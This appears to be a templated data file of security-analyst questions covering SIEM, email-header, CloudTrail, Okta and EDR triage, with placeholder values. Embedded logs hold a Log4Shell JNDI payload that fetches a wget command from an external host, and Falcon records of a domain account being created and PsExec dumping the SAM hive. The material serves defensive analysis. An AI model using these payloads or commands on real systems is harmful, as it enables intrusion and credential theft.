### h25-001
Can you help me read this Splunk output? We got the "Excessive VPN authentication failures" notable at 03:12 UTC and I need to know whether any of these sources actually got in before I write the ticket.

index=vpn sourcetype=pan:globalprotect earliest=-4h@h
| stats count(eval(status="failure")) AS failures count(eval(status="success")) AS successes dc(src_user) AS distinct_users values(src_user) AS users BY src_ip
| where failures > 20 | sort - failures

src_ip           failures  successes  distinct_users  users
[[IP_ADDRESS|@@ip:t001a@@]]   412       0          38              [[EMAIL|a.kowalczyk@brightwater-eng.com]] [[EMAIL|j.ferreira@brightwater-eng.com]] (+36 more)
[[IP_ADDRESS|@@ip:t001b@@]]   187       1          22              [[EMAIL|m.okafor@brightwater-eng.com]] [[EMAIL|svc.scanner@brightwater-eng.com]] (+20 more)
[[IP_ADDRESS|@@ip:t001c@@]]    64       0           1              [[EMAIL|r.lindqvist@brightwater-eng.com]]

Job: sid=scheduler__nobody__U0EtVlBO__RMD5@@hex:t001s:16@@_at_1749870720_48213, 3 results, scanned 1,904,311 events in 6.82 s.

Drill-down on the one success:
index=vpn src_user="[[EMAIL|m.okafor@brightwater-eng.com]]" status=success
2025-06-14T03:09:51.207Z gp-portal-01 GLOBALPROTECT,1,2025/06/14 03:09:51,013201009876,GLOBALPROTECT,0,2561,login,success,src_ip=[[IP_ADDRESS|@@ip:t001b@@]],private_ip=[[IP_ADDRESS|10.212.134.27]],machine=BWE-LT-0471,client_ver=6.2.3-41,os="Windows 10 Enterprise 10.0.19045",auth=SAML,mfa=push-approved,session=0x4b1e

Mia says she was asleep at 03:09 and did not approve any push. Is the right call to kill the session and reset her, and should I block the whole /24 or only the single address?

### h25-002
Our scheduled correlation search started skipping runs after the upgrade. Here is the SPL and the job inspector output; can you tell me which part is slow and how to rewrite it with tstats?

index=firewall sourcetype=cisco:asa action=blocked
| eval internal=if(cidrmatch("10.0.0.0/8", src) OR cidrmatch("172.16.0.0/12", src) OR cidrmatch("192.168.0.0/16", src), 1, 0)
| where internal=0
| lookup asset_lookup_by_cidr cidr AS dest OUTPUT owner priority
| stats count dc(dest_port) AS ports BY src, owner, priority
| where ports > 15

This search has completed and has returned 1,284 results by scanning 48,211,903 events in 337.402 seconds
(SID: scheduler__nobody_U0EtU2VjdXJpdHk__RMD5f6c10a9e83b2d417_at_1749884400_91822) search.log

Duration (seconds)   Component                                   Invocations   Input count   Output count
  0.41               command.eval                                    96         48,211,903    48,211,903
  4.07               command.lookup                                  96            931,556       931,556
 12.88               command.stats                                   96            931,556         1,284
298.72               dispatch.fetch.rcp.phase_0                      97                  -             -
  9.11               dispatch.stream.remote.idx-03.splunk.local      12                  -   118,402,218 bytes
  0.02               startup.configuration                            1                  -             -

Environment: Splunk Enterprise 9.2.1 (build 78803f08aabb), ES 7.3.2, 6 indexers, search head cluster of 3, max_searches_per_cpu = 1, base_max_searches = 6. The scheduler log shows status=skipped reason="The maximum number of concurrent historical scheduled searches on this cluster has been reached" for savedsearch_id="nobody;SA-Security;Firewall - Horizontal Port Scan - Rule", 41 times since 2025-06-13T22:00:00Z.

### h25-003
Phish triage, user-reported via the Outlook button. I think the From is spoofed and Reply-To is the real attacker mailbox, but DMARC is p=none so it was delivered. Can you confirm from the headers and tell me what to put in the block list?

Return-Path: <[[EMAIL|bounce-7731@mx2.ordervault-notify.shop]]>
Received: from mx2.ordervault-notify.shop (mx2.ordervault-notify.shop [[[IP_ADDRESS|@@ip:t003a@@]]])
        by mx.larchmontdental.com (Postfix) with ESMTPS id 4bH2kQ0zxTz9sWn
        for <[[EMAIL|t.brennan@larchmontdental.com]]>; Tue, 10 Jun 2025 14:02:11 +0000 (UTC)
Received: from [[[IP_ADDRESS|192.168.1.44]]] (unknown [[[IP_ADDRESS|@@ip:t003b@@]]])
        by mx2.ordervault-notify.shop (Postfix) with ESMTPSA id 9C1A2E0F3B
        for <[[EMAIL|t.brennan@larchmontdental.com]]>; Tue, 10 Jun 2025 14:02:09 +0000 (UTC)
Authentication-Results: mx.larchmontdental.com;
        spf=pass (sender IP is [[IP_ADDRESS|@@ip:t003a@@]]) smtp.mailfrom=[[EMAIL|bounce-7731@mx2.ordervault-notify.shop]];
        dkim=pass header.d=ordervault-notify.shop header.s=s1 header.b=Kx3pQ9aZ;
        dmarc=fail (p=none dis=none) header.from=larchmontdental.com
DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=ordervault-notify.shop; s=s1;
        t=1749564129; bh=@@b64:t003bh:32@@;
        b=@@b64:t003b1:96@@
From: "Accounts Payable" <[[EMAIL|ap@larchmontdental.com]]>
Reply-To: "Accounts Payable" <[[EMAIL|ap.larchmontdental@securemail-desk.net]]>
To: [[EMAIL|t.brennan@larchmontdental.com]]
Subject: RE: Invoice 88213 overdue - action required
Date: Tue, 10 Jun 2025 07:02:07 -0700
Message-ID: <20250610140209.9C1A2E0F3B@mx2.ordervault-notify.shop>
X-Mailer: PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0

Body (text part):
Hi Tom, our records show invoice 88213 ($14,870.00) is now 45 days past due. To avoid a service hold please call our billing desk today at [[PHONE|@@phone:t003p:US:f:national@@]] and reference case LD-2025-0610. Thank you, Accounts Payable

### h25-004
I sanitized these headers before pasting (addresses swapped for [removed], IPs for x.x.x.x). Question: does anything here show the message was spoofed, or is it a legit bulk sender that our users just don't recognise?

Received: from EUR05-AM6-obe.outbound.protection.outlook.com (x.x.x.x) by mailgw02.internal with Microsoft SMTP Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.2.1544.11; Wed, 11 Jun 2025 09:14:37 +0200
ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;
 b=@@b64:t004as:96@@
ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com; s=arcselector10001;
 h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-AntiSpam-MessageData-ChunkCount:X-MS-Exchange-AntiSpam-MessageData-0;
 bh=@@b64:t004bh:32@@;
Authentication-Results: spf=pass (sender IP is x.x.x.x) smtp.mailfrom=[removed]; dkim=pass (signature was verified) header.d=updates.fieldnote-apps.io; dmarc=pass action=none header.from=updates.fieldnote-apps.io; compauth=pass reason=100
Received-SPF: Pass (protection.outlook.com: domain of [removed] designates x.x.x.x as permitted sender) receiver=protection.outlook.com; client-ip=x.x.x.x; helo=o17.em.fieldnote-apps.io; pr=C
X-MS-Exchange-Organization-SCL: 1
X-Forefront-Antispam-Report: CIP:x.x.x.x;CTRY:US;LANG:en;SCL:1;SRV:BULK;IPV:NLI;SFV:NSPM;H:o17.em.fieldnote-apps.io;PTR:o17.em.fieldnote-apps.io;CAT:NONE;SFS:(13230040)(4636009)(82310400026)(1800799024)(69100299015);DIR:INB;
X-Microsoft-Antispam: BCL:7;ARA:13230040|82310400026|1800799024|69100299015;
X-MS-Exchange-CrossTenant-Id: @@uuid:t004tid@@
X-MS-Exchange-CrossTenant-Network-Message-Id: @@uuid:t004mid@@
Message-ID: <@@hex:t004msg:24@@.@@digits:t004msgn:10@@@em.fieldnote-apps.io>
List-Unsubscribe: <https://u.fieldnote-apps.io/unsub?c=@@urlsafe:t004u:43@@>, <mailto:[removed]>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
Subject: Your June field report is ready
From: Fieldnote <[removed]>

BCL 7 and SRV:BULK make me think it's marketing, but 31 people reported it within an hour.

### h25-005
Please turn this vendor bulletin into a table I can paste into our TIP import (columns: type, value, role, first_seen). Keep the defanged values defanged.

OPAL THRUSH - Flash Report FR-2025-117 (TLP:AMBER)
The actor sends payroll-themed lures from lookalike HR domains, then deploys a Cobalt Strike beacon via a signed MSI.

Network
- [[IP_ADDRESS|@@dfl:t005a@@]] - Cobalt Strike team server, HTTPS/443, cert CN=cdn-telemetry-sync.com (first seen 2025-05-28)
- [[IP_ADDRESS|@@dfa:t005b@@]] - staging server hosting update.msi (first seen 2025-05-30)
- [[IP_ADDRESS|@@ip:t005c@@]] - SMTP relay used for the lures (HELO mail.hr-portal-sync.com)
- [[IP_ADDRESS|@@dfl:t005d@@]] - secondary C2, same JARM as the primary
- 193.142.146[.]0/24 - range leased by the same reseller; block at the edge, not every host is malicious
- hxxps://cdn-telemetry-sync[.]com/jquery-3.3.1.min.js (beacon URI)
- hxxp://files-hrportal[.]com/update.msi
Lure senders: [[EMAIL|payroll-update@hr-portal-sync.com]], [[EMAIL|benefits[@]hr-portal-sync[.]com]]
WHOIS registrant for both domains (2025-05-02): [[EMAIL|k.morrow.reg@mailbox-vault.net]]

Host
- update.msi  SHA256 @@hex:t005h1:64@@
- beacon.dll  SHA256 @@hex:t005h2:64@@  MD5 @@hex:t005h3:32@@
- signer thumbprint (SHA1) @@uhex:t005h4:40@@, serial 0x@@hex:t005h5:32@@
- JA3 @@hex:t005h6:32@@ / JARM 2ad2ad0002ad2ad00042d42d000000@@hex:t005h7:32@@
TTPs: T1566.001, T1218.007, T1059.001, T1071.001, T1105

### h25-006
Can you write a Sigma rule and a Defender advanced hunting query from these file and TLS indicators? This is the hash/JA3 part of the report only; the network part is domains and ranges.

GRIMLOCK LOADER - indicators (report CTI-0419, rev 2)
File
| sha256                                                           | name                 | size    |
| @@hex:t006h1:64@@ | OneDriveUpdater.exe  | 412,160 |
| @@hex:t006h2:64@@ | version.dll          | 98,304  |
| @@hex:t006h3:64@@ | config.dat (RC4)     | 2,048   |
md5 of version.dll: @@hex:t006h4:32@@ | sha1: @@hex:t006h5:40@@
imphash: @@hex:t006h6:32@@ | ssdeep: 1536:@@alnum:t006s1:38@@:@@alnum:t006s2:22@@
Authenticode: signer "Nordvik Softworks ApS" (revoked 2025-05-19), serial 0x@@hex:t006h7:32@@, thumbprint @@uhex:t006h8:40@@
Mutex: Global\GLK-@@uuid:t006mx@@  | named pipe: \\.\pipe\mojo.5688.8052.@@digits:t006pipe:19@@

TLS / network
JA3  @@hex:t006j1:32@@ (client, loader)
JA3S @@hex:t006j2:32@@
JARM 3fd3fd0003fd3fd21c3fd3fd3fd3fd@@hex:t006j3:32@@
Domains: update-onedrive-cdn[.]com, ms-filesync[.]net, static-graph-api[.]org
URL pattern: hxxps://<domain>/v2/sync?guid=<32 hex>&os=<build>
Hosting: AS209588, AS399629; ranges 5.252.176[.]0/22 and 45.61.136[.]0/21 (block only if your business has no traffic there)
ATT&CK: T1574.002 (DLL side-loading), T1027.002, T1071.001, T1573.002; related CVE: none, no exploit used.
YARA: rule GRIMLOCK_cfg { strings: $a = { 6A 40 68 00 30 00 00 8B 45 ?? } $b = "GLK-" wide condition: uint16(0) == 0x5A4D and all of them }

### h25-007
Suricata flagged this overnight. Is the first alert a real exploitation attempt or just a scanner? And why would there be an SMTP event from the same source an hour later?

{"timestamp":"2025-06-12T01:47:22.118403+0000","flow_id":1448209187351822,"in_iface":"ens5","event_type":"alert","src_ip":"[[IP_ADDRESS|@@ip:t007a@@]]","src_port":51544,"dest_ip":"[[IP_ADDRESS|10.40.12.71]]","dest_port":443,"proto":"TCP","community_id":"1:@@b64:t007c1:20@@","alert":{"action":"allowed","gid":1,"signature_id":2035675,"rev":4,"signature":"ET EXPLOIT Possible Apache log4j RCE Attempt - 2021/12/10 (CVE-2021-44228)","category":"Attempted Administrator Privilege Gain","severity":1,"metadata":{"attack_target":["Server"],"cve":["CVE_2021_44228"],"mitre_technique_id":["T1190"]}},"http":{"hostname":"portal.kestrel-freight.com","url":"/api/v1/login","http_user_agent":"${jndi:ldap://[[IP_ADDRESS|@@ip:t007b@@]]:1389/Basic/Command/Base64/d2dldCBodHRwOi8v}","http_method":"POST","protocol":"HTTP/1.1","status":401,"length":61},"app_proto":"http"}
{"timestamp":"2025-06-12T01:47:22.403911+0000","flow_id":1448209187351822,"in_iface":"ens5","event_type":"fileinfo","src_ip":"[[IP_ADDRESS|10.40.12.71]]","src_port":443,"dest_ip":"[[IP_ADDRESS|@@ip:t007a@@]]","dest_port":51544,"proto":"TCP","fileinfo":{"filename":"/api/v1/login","sid":[2035675],"magic":"JSON data","gaps":false,"state":"CLOSED","sha256":"@@hex:t007s:64@@","stored":false,"size":61,"tx_id":0}}
{"timestamp":"2025-06-12T02:51:09.552870+0000","flow_id":902118273645519,"in_iface":"ens5","event_type":"smtp","src_ip":"[[IP_ADDRESS|@@ip:t007a@@]]","src_port":40218,"dest_ip":"[[IP_ADDRESS|10.40.12.25]]","dest_port":25,"proto":"TCP","smtp":{"helo":"scan-node-7","mail_from":"<[[EMAIL|probe.7731@intermap-survey.org]]>","rcpt_to":["<[[EMAIL|postmaster@kestrel-freight.com]]>","<[[EMAIL|d.achterberg@kestrel-freight.com]]>"]},"email":{"status":"PARSE_DONE","from":"\"Survey\" <[[EMAIL|probe.7731@intermap-survey.org]]>","to":["[[EMAIL|d.achterberg@kestrel-freight.com]]"],"subject":"test"}}

The Java app behind portal. is on Log4j 2.17.1 according to the SBOM, so I think we're fine, but the LDAP callback host is new to me.

### h25-008
Suricata keeps dropping packets on the span port. Can you read these stats and tell me whether it's the capture method, the rule set or just CPU?

{"timestamp":"2025-06-12T06:00:01.000264+0000","event_type":"stats","stats":{"uptime":86412,"capture":{"kernel_packets":1838201447,"kernel_drops":73118402,"errors":0,"afpacket":{"busy_loop_avg":0,"polls":1204511,"poll_signal":0,"poll_timeout":412,"poll_data":1204099,"poll_errors":0,"send_errors":0}},"decoder":{"pkts":1765083045,"bytes":1431882021774,"invalid":2218,"ipv4":1701224188,"ipv6":63858857,"tcp":1512774320,"udp":247331190,"vlan":1765083045,"avg_pkt_size":811,"max_pkt_size":1514},"flow":{"memcap":0,"tcp":19831204,"udp":8810277,"emerg_mode_entered":3,"emerg_mode_over":3,"memuse":943718400},"detect":{"engines":[{"id":0,"last_reload":"2025-06-11T06:00:02.114927+0000","rules_loaded":48211,"rules_failed":7,"rules_skipped":0}],"alert":2817},"tcp":{"reassembly_gap":118442,"segment_memcap_drop":2291847,"memuse":1073741824}}}

$ suricatasc -c "iface-stat ens6"
{"message": {"pkts": 1838201447, "drop": 73118402, "invalid-checksums": 0, "bypassed": 0}, "return": "OK"}

suricata.yaml (excerpt):
af-packet:
  - interface: ens6
    threads: 4
    cluster-id: 99
    cluster-type: cluster_flow
    defrag: yes
    ring-size: 2048
stream:
  memcap: 1gb
  reassembly:
    memcap: 1gb
    depth: 1mb
vars:
  address-groups:
    HOME_NET: "[10.0.0.0/8,172.16.0.0/12,192.168.0.0/16]"
    EXTERNAL_NET: "!$HOME_NET"

Example of a rule that fails to load: alert http $EXTERNAL_NET any -> $HOME_NET any (msg:"ET WEB_SPECIFIC_APPS Generic Path Traversal"; flow:established,to_server; http.uri; content:"|2e 2e 2f 2e 2e 2f|"; fast_pattern; reference:cve,2024-23897; classtype:web-application-attack; sid:2024217; rev:3; metadata:created_at 2024_02_01;)
Suricata 7.0.5 RELEASE, 8 vCPU, 16 GiB RAM, 10 Gbit/s span at ~4.1 Gbit/s peak.

### h25-009
We think someone phished an SSO session and used it in AWS. Here are the three CloudTrail events that matter (trimmed). Can you build me a timeline and list what I need to revoke?

{"eventVersion":"1.09","userIdentity":{"type":"AssumedRole","principalId":"@@aroa:t009r@@:[[EMAIL|d.haverford@saltmarsh-analytics.com]]","arn":"arn:aws:sts::418273660195:assumed-role/AWSReservedSSO_AdministratorAccess_5c2e91aa07b3d611/[[EMAIL|d.haverford@saltmarsh-analytics.com]]","accountId":"418273660195","accessKeyId":"[[SECRET|@@asia:t009k1@@]]","sessionContext":{"attributes":{"creationDate":"2025-06-09T21:14:07Z","mfaAuthenticated":"false"}}},"eventTime":"2025-06-09T21:16:44Z","eventSource":"iam.amazonaws.com","eventName":"CreateUser","awsRegion":"us-east-1","sourceIPAddress":"[[IP_ADDRESS|@@ip:t009a@@]]","userAgent":"aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0-35-generic exe/x86_64.ubuntu.22","requestParameters":{"userName":"backup-svc"},"responseElements":{"user":{"path":"/","userName":"backup-svc","userId":"@@aida:t009u@@","arn":"arn:aws:iam::418273660195:user/backup-svc","createDate":"Jun 9, 2025 9:16:44 PM"}},"requestID":"@@uuid:t009q1@@","eventID":"@@uuid:t009e1@@","readOnly":false,"eventType":"AwsApiCall","recipientAccountId":"418273660195","tlsDetails":{"tlsVersion":"TLSv1.3","cipherSuite":"TLS_AES_128_GCM_SHA256","clientProvidedHostHeader":"iam.amazonaws.com"}}
{"eventTime":"2025-06-09T21:17:02Z","eventSource":"iam.amazonaws.com","eventName":"CreateAccessKey","sourceIPAddress":"[[IP_ADDRESS|@@ip:t009a@@]]","userIdentity":{"type":"AssumedRole","accessKeyId":"[[SECRET|@@asia:t009k1@@]]"},"requestParameters":{"userName":"backup-svc"},"responseElements":{"accessKey":{"userName":"backup-svc","accessKeyId":"[[SECRET|@@akia:t009k2@@]]","status":"Active","createDate":"Jun 9, 2025 9:17:02 PM"}},"requestID":"@@uuid:t009q2@@","eventID":"@@uuid:t009e2@@"}
{"eventTime":"2025-06-10T02:41:19Z","eventSource":"secretsmanager.amazonaws.com","eventName":"GetSecretValue","sourceIPAddress":"[[IP_ADDRESS|@@ip:t009b@@]]","userAgent":"Boto3/1.34.84 md/Botocore#1.34.84 ua/2.0 os/linux#5.15.0 md/arch#x86_64 lang/python#3.10.12","userIdentity":{"type":"IAMUser","userName":"backup-svc","accessKeyId":"[[SECRET|@@akia:t009k2@@]]"},"requestParameters":{"secretId":"arn:aws:secretsmanager:us-east-1:418273660195:secret:prod/billing/stripe-Xk2P9q"},"responseElements":null,"requestID":"@@uuid:t009q3@@","eventID":"@@uuid:t009e3@@"}

The second source address geolocates to a VPS provider in Bucharest; Dana is in Denver and was offline.

### h25-010
These CloudTrail entries fire our "KMS decrypt from unusual principal" rule every hour. I believe they are AWS services acting on our behalf and want to tune the rule without creating a blind spot. What conditions would you add?

{"eventVersion":"1.09","userIdentity":{"type":"AWSService","invokedBy":"autoscaling.amazonaws.com"},"eventTime":"2025-06-11T13:00:04Z","eventSource":"kms.amazonaws.com","eventName":"Decrypt","awsRegion":"eu-west-1","sourceIPAddress":"autoscaling.amazonaws.com","userAgent":"autoscaling.amazonaws.com","requestParameters":{"encryptionContext":{"aws:ebs:id":"vol-0c41f8a2d91e07b35"},"encryptionAlgorithm":"SYMMETRIC_DEFAULT"},"responseElements":null,"requestID":"@@uuid:t010q1@@","eventID":"@@uuid:t010e1@@","readOnly":true,"resources":[{"accountId":"730155482916","type":"AWS::KMS::Key","ARN":"arn:aws:kms:eu-west-1:730155482916:key/@@uuid:t010k@@"}],"eventType":"AwsApiCall","managementEvent":true,"recipientAccountId":"730155482916","sharedEventID":"@@uuid:t010s1@@","eventCategory":"Management"}
{"eventVersion":"1.09","userIdentity":{"type":"AWSService","invokedBy":"lambda.amazonaws.com"},"eventTime":"2025-06-11T13:00:09Z","eventSource":"kms.amazonaws.com","eventName":"Decrypt","awsRegion":"eu-west-1","sourceIPAddress":"AWS Internal","userAgent":"AWS Internal","requestParameters":{"encryptionContext":{"aws:lambda:FunctionArn":"arn:aws:lambda:eu-west-1:730155482916:function:invoice-renderer"},"keyId":"arn:aws:kms:eu-west-1:730155482916:key/@@uuid:t010k@@"},"responseElements":null,"requestID":"@@uuid:t010q2@@","eventID":"@@uuid:t010e2@@","readOnly":true,"eventType":"AwsApiCall","recipientAccountId":"730155482916"}
{"eventVersion":"1.09","eventTime":"2025-06-11T13:01:30Z","eventSource":"lambda.amazonaws.com","eventName":"UpdateFunctionConfiguration20150331v2","sourceIPAddress":"cloudformation.amazonaws.com","requestParameters":{"functionName":"invoice-renderer","environment":{"variables":"HIDDEN_DUE_TO_SECURITY_REASONS"},"kMSKeyArn":"arn:aws:kms:eu-west-1:730155482916:key/@@uuid:t010k@@"},"responseElements":{"codeSha256":"@@b64:t010cs:32@@","version":"$LATEST","revisionId":"@@uuid:t010rv@@"}}

Our detection unit tests use the documented example key id AKIAIOSFODNN7EXAMPLE as the "unusual principal", which is why the test still passes after tuning. Account 730155482916 is our prod account; the rule is in Sigma and converted with pySigma 0.11.

### h25-011
Looks like MFA fatigue. I exported the Okta System Log for the user (trimmed to the interesting fields). Can you confirm the sequence and tell me which session to clear? I pulled it with:
curl -s -H "Authorization: SSWS [[SECRET|@@ssws:t011tok@@]]" "https://saltire-health.okta.com/api/v1/logs?filter=actor.id+eq+%2200u@@alnum:t011u:17@@%22&since=2025-06-13T00:00:00Z"

[
 {"published":"2025-06-13T22:41:03.114Z","eventType":"user.session.start","displayMessage":"User login to Okta","outcome":{"result":"SUCCESS"},"actor":{"id":"00u@@alnum:t011u:17@@","type":"User","alternateId":"[[EMAIL|p.raman@saltire-health.org]]","displayName":"Priya Raman"},"client":{"ipAddress":"[[IP_ADDRESS|@@ip:t011a@@]]","geographicalContext":{"city":"Amsterdam","country":"Netherlands"},"userAgent":{"rawUserAgent":"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36","os":"Linux","browser":"CHROME"}},"authenticationContext":{"externalSessionId":"102@@alnum:t011sid:22@@"},"debugContext":{"debugData":{"requestId":"@@alnum:t011rq:27@@","dtHash":"@@hex:t011dt:64@@","threatSuspected":"false"}}},
 {"published":"2025-06-13T22:41:05.870Z","eventType":"system.push.send_factor_verify_push","outcome":{"result":"SUCCESS"},"actor":{"alternateId":"[[EMAIL|p.raman@saltire-health.org]]"},"client":{"ipAddress":"[[IP_ADDRESS|@@ip:t011a@@]]"}},
 {"published":"2025-06-13T22:41:31.002Z","eventType":"user.mfa.okta_verify.deny_push","outcome":{"result":"FAILURE","reason":"User rejected Okta push verify"},"actor":{"alternateId":"[[EMAIL|p.raman@saltire-health.org]]"},"client":{"ipAddress":"[[IP_ADDRESS|@@ip:t011b@@]]","geographicalContext":{"city":"Leeds","country":"United Kingdom"}}},
 ... 11 more send/deny pairs between 22:42 and 22:58 ...
 {"published":"2025-06-13T23:02:47.559Z","eventType":"user.authentication.auth_via_mfa","outcome":{"result":"SUCCESS"},"actor":{"alternateId":"[[EMAIL|p.raman@saltire-health.org]]"},"client":{"ipAddress":"[[IP_ADDRESS|@@ip:t011a@@]]"},"authenticationContext":{"externalSessionId":"102@@alnum:t011sid:22@@"},"transaction":{"type":"WEB","id":"@@alnum:t011tx:27@@"}}
]

The deny pushes come from her phone's carrier address in Leeds, the login itself from a hosting range in Amsterdam. Her manager, [[EMAIL|o.mcbride@saltire-health.org]], says she finally accepted one "to make it stop".

### h25-012
Is this normal? Our SIEM raised "Okta API token created" and "signing key rotated" at the same minute. Both actors look like system principals, but I want a second opinion before I close it.

{"published":"2025-06-14T04:00:00.412Z","eventType":"app.oauth2.as.key.rollover","displayMessage":"Authorization server signing key rollover","severity":"INFO","outcome":{"result":"SUCCESS"},"actor":{"id":"0oa@@alnum:t012a:17@@","type":"PublicClientApp","alternateId":"Okta System","displayName":"Okta System"},"client":{"ipAddress":null,"userAgent":null,"zone":"null"},"target":[{"id":"aus@@alnum:t012as:17@@","type":"AuthorizationServer","displayName":"default"},{"id":"@@urlsafe:t012kid:43@@","type":"Key","displayName":"kid"}],"transaction":{"type":"JOB","id":"@@alnum:t012tx:27@@"},"uuid":"@@uuid:t012u1@@"}
{"published":"2025-06-14T04:00:31.907Z","eventType":"system.api_token.create","displayMessage":"Create API token","severity":"INFO","outcome":{"result":"SUCCESS"},"actor":{"id":"0oa@@alnum:t012b:17@@","type":"PublicClientApp","alternateId":"okta-workflows-connector","displayName":"Okta Workflows"},"client":{"ipAddress":null},"target":[{"id":"00T@@alnum:t012t:17@@","type":"Token","displayName":"wf-scim-sync (expires 2025-07-14)","detailEntry":{"tokenPrefix":"00a","networkConnection":"ANYWHERE"}}],"debugContext":{"debugData":{"requestId":"@@alnum:t012rq:27@@","requestUri":"/api/internal/tokens","dtHash":"@@hex:t012dt:64@@"}},"uuid":"@@uuid:t012u2@@"}

The workflow that creates the token is "SCIM sync - token refresh" (flow id 7d3f1c, owner group Identity-Engineering) and it runs `curl -H "Authorization: SSWS ${OKTA_API_TOKEN}"` against /api/v1/groups after each rotation. Token TTL is 30 days; network zone rule "ANYWHERE" is the default for tokens created by Workflows.

### h25-013
Sentinel "Impossible travel" incident 48213. KQL and results below; which of these would you treat as true positives, given we have staff in Lisbon and contractors on a Toronto VPN?

let lookback = 1d;
SigninLogs
| where TimeGenerated > ago(lookback) and ResultType == 0
| extend Country = tostring(LocationDetails.countryOrRegion), City = tostring(LocationDetails.city)
| summarize Countries = make_set(Country), Cities = make_set(City), IPs = make_set(IPAddress), FirstSeen = min(TimeGenerated), LastSeen = max(TimeGenerated) by UserPrincipalName
| where array_length(Countries) > 1

UserPrincipalName                          Countries        Cities                     IPs                                              FirstSeen              LastSeen
[[EMAIL|rui.mendes@caravela-logistics.pt]]           ["PT","BR"]      ["Lisbon","São Paulo"]     ["[[IP_ADDRESS|@@ip:t013a@@]]","[[IP_ADDRESS|@@ip:t013b@@]]"]              2025-06-12 07:58:11    2025-06-12 09:03:40
[[EMAIL|a.sokolova@caravela-logistics.pt]]           ["PT","CA"]      ["Porto","Toronto"]        ["[[IP_ADDRESS|@@ip:t013c@@]]","[[IP_ADDRESS|@@ip:t013d@@]]"]              2025-06-12 08:12:54    2025-06-12 16:47:02
[[EMAIL|contractor.jlee@caravela-logistics.pt]]      ["CA","US"]      ["Toronto","Ashburn"]      ["[[IP_ADDRESS|@@ip:t013d@@]]","[[IP_ADDRESS|@@ip6:t013e@@]]"]   2025-06-12 13:20:31    2025-06-12 13:26:09

AppDisplayName for Rui's São Paulo sign-in is "OfficeHome", ClientAppUsed "Browser", DeviceDetail.isCompliant false, AuthenticationRequirement singleFactorAuthentication (token replay?). CorrelationId @@uuid:t013corr@@.

### h25-014
Our conditional access rollout: I want a weekly summary of blocked sign-ins by app and failure code, excluding the corporate ranges. Does this KQL do what I think, and is there a cheaper way than mv-expand?

let corp = dynamic(["10.0.0.0/8", "172.20.0.0/14", "100.64.0.0/10"]);
SigninLogs
| where TimeGenerated between (datetime(2025-06-02) .. datetime(2025-06-09))
| where ResultType in (53003, 50126, 50074, 530032)
| where not(ipv4_is_in_any_range(IPAddress, corp))
| summarize Blocked = count(), Users = dcount(UserPrincipalName) by AppDisplayName, ResultType
| order by Blocked desc

AppDisplayName                    ResultType   Blocked   Users
Microsoft Office 365 Portal       53003        1,204     311
Azure Portal                      53003          418      27
Microsoft Teams                   50074          391     208
Office 365 Exchange Online        50126          377     144
Microsoft Authentication Broker   530032          96      41

ResultType 53003 = blocked by Conditional Access, 50126 = invalid credentials, 50074 = strong auth required, 530032 = blocked by security defaults policy. Policy id @@uuid:t014pol@@ ("CA012 - Block legacy auth and untrusted locations"), named location id @@uuid:t014loc@@. Workspace @@uuid:t014ws@@, retention 90 days, ingestion ~14 GB/day.

### h25-015
Two Falcon detections on the same host within 4 minutes. This looks hands-on-keyboard to me. Can you explain what the operator did and whether the new account is domain-wide?

{"metadata":{"eventType":"DetectionSummaryEvent","eventCreationTime":1749712931000},"event":{"DetectId":"ldt:@@hex:t015d:32@@:@@digits:t015dn:11@@","ComputerName":"FIN-SRV-07","UserName":"adm_jkeller","LocalIP":"[[IP_ADDRESS|10.30.2.55]]","MACAddress":"00-50-56-a1-3c-7f","SensorId":"@@hex:t015sensor:32@@","Tactic":"Persistence","TacticId":"TA0003","Technique":"Create Account: Domain Account","TechniqueId":"T1136.002","Severity":4,"FileName":"net1.exe","FilePath":"\\Device\\HarddiskVolume3\\Windows\\System32","CommandLine":"C:\\Windows\\system32\\net1 user helpdesk_tmp [[SECRET|Tr!dent-Harbor-2025]] /add /domain","ParentImageFileName":"cmd.exe","ParentCommandLine":"cmd.exe /c net user helpdesk_tmp [[SECRET|Tr!dent-Harbor-2025]] /add /domain","SHA256String":"@@hex:t015h1:64@@","MD5String":"@@hex:t015h2:32@@","PatternDispositionValue":2048,"ProcessId":"@@digits:t015pid:12@@"}}
{"metadata":{"eventType":"DetectionSummaryEvent","eventCreationTime":1749713158000},"event":{"ComputerName":"FIN-SRV-07","UserName":"adm_jkeller","LocalIP":"[[IP_ADDRESS|10.30.2.55]]","ExternalIP":"[[IP_ADDRESS|@@ip:t015ext@@]]","Tactic":"Lateral Movement","TechniqueId":"T1569.002","FileName":"PsExec64.exe","CommandLine":"PsExec64.exe \\\\[[IP_ADDRESS|10.30.4.19]] -accepteula -u CORP\\helpdesk_tmp -p [[SECRET|Tr!dent-Harbor-2025]] -s cmd.exe /c \"reg save HKLM\\SAM C:\\Windows\\Temp\\s.hiv\"","SHA256String":"@@hex:t015h3:64@@","PatternId":10197,"Severity":5}}

adm_jkeller is Jonas Keller's admin account; he is on holiday and his laptop was off all week.

### h25-016
Falcon blocked this on a finance workstation. The command decodes to something harmless to me, but I'd like to understand why the pattern fired and whether we should add an exclusion.

